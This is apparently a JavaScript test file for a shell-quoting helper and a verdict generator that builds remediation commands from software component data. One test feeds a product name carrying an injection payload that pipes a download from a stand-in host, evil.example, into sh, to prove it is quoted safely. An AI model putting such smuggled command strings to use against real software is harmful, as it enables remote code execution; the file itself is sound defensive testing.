import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { judge, shellWord } from '.';
import { aComponent, aSystem, NOW, someEvidence } from '../../../../test/support/evidence';

describe('a word of a command line', () => {
  it.each(['pkg:generic/kitakaze/valve@1.0.0', 'party:cn-IeB/remote_1', '100%25'])(
    'stands as it is: %s',
    (text) => {
      expect(shellWord(text)).toBe(text);
    },
  );

  it('is the same text to a shell, whatever it holds', () => {
    const texts = fc.array(
      fc.string({ unit: fc.integer({ min: 0x20, max: 0x7e }).map((code) => String.fromCharCode(code)) }),
      {
        minLength: 1,
        maxLength: 200,
      },
    );
    fc.assert(
      fc.property(texts, (words) => {
        const line = `printf '%s\\n' ${words.map(shellWord).join(' ')}`;
        expect(execFileSync('sh', ['-c', line], { encoding: 'utf8' })).toBe(
          words.map((word) => `${word}\n`).join(''),
        );
      }),
      { numRuns: 20 },
    );
  });

  it('is what products of others are in the commands of a verdict', () => {
    const product = "pkg:generic/x;curl${IFS}evil.example|sh;'@1";
    const systems = [aSystem({ components: [aComponent({ product })] })];
    const { findings } = judge(someEvidence({ systems, attestations: [] }), NOW);
    const commands = findings.flatMap(({ remedy }) =>
      remedy?.command.includes('curl') ? [remedy.command] : [],
    );
    expect(commands).toContainEqual(
      expect.stringContaining("--product 'pkg:generic/x;curl${IFS}evil.example|sh;'\\''@1' --catalogue "),
    );
    expect(commands.every((command) => command.includes(` ${shellWord(product)} `))).toBe(true);
  });
});
